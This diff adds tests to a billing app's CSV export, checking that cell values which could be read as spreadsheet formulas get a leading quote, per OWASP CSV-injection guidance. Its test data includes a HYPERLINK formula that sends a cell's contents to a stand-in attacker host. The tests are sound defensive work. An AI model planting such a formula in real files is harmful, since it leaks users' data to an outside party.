@@ -224,3 +224,68 @@ def test_major_units_use_the_currencys_digits_without_separators() -> None:
     assert major_units(1_235, "JPY") == "1235"
     assert major_units(1_235, "KWD") == "1.235"
     assert major_units(1, "CLF") == "0.0001"
+
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(1,1)",
+    "\tTabbed",
+    "\rReturned",
+    "=1",
+]
+
+
+async def test_export_is_safe_against_formula_injection_by_default(billing: Billing) -> None:
+    """OWASP's CSV injection guidance: a text cell starting with = + - @ tab or CR is
+    prefixed with a single quote, so a spreadsheet shows it as text and runs nothing."""
+    client, base = billing.api.client, billing.base
+    for name in FORMULAS:
+        created = await client.post(
+            f"{base}/customers", json={"name": name}, headers=billing.headers()
+        )
+        assert created.status_code == 201, created.text
+        await billing.draft(customer_id=created.json()["id"])
+    _, rows, _ = await export(billing)
+    names = sorted(row["customer_name"] for row in rows)
+    assert names == sorted("'" + name for name in FORMULAS)
+
+
+async def test_the_raw_form_writes_values_verbatim() -> None:
+    records = [{**record, "customer_name": name} async for record, name in _named(FORMULAS)]
+
+    async def source() -> AsyncIterator[dict[str, Any]]:
+        for record in records:
+            yield record
+
+    raw = b"".join([chunk async for chunk in csv_chunks(source(), 100, raw=True)]).decode()
+    safe = b"".join([chunk async for chunk in csv_chunks(source(), 100)]).decode()
+    raw_names = [row[3] for row in csv.reader(io.StringIO(raw, newline=""))][1:]
+    safe_names = [row[3] for row in csv.reader(io.StringIO(safe, newline=""))][1:]
+    assert raw_names == FORMULAS
+    assert safe_names == ["'" + name for name in FORMULAS]
+
+
+async def _named(names: list[str]) -> AsyncIterator[tuple[dict[str, Any], str]]:
+    index = 0
+    async for record in _records(len(names)):
+        yield record, names[index]
+        index += 1
+
+
+@pytest.mark.parametrize(
+    ("value", "shown"),
+    [
+        ("Acme", "Acme"),
+        ("", ""),
+        ("a=b", "a=b"),
+        ("=cmd", "'=cmd"),
+        ("＝cmd", "'＝cmd"),  # fullwidth equals: some spreadsheets read it as "="
+        ("\nLine", "'\nLine"),
+        ("INV-000001", "INV-000001"),
+        ("-000001", "'-000001"),
+    ],
+)
+def test_neutralise(value: str, shown: str) -> None:
+    assert csv_export.neutralise(value) == shown
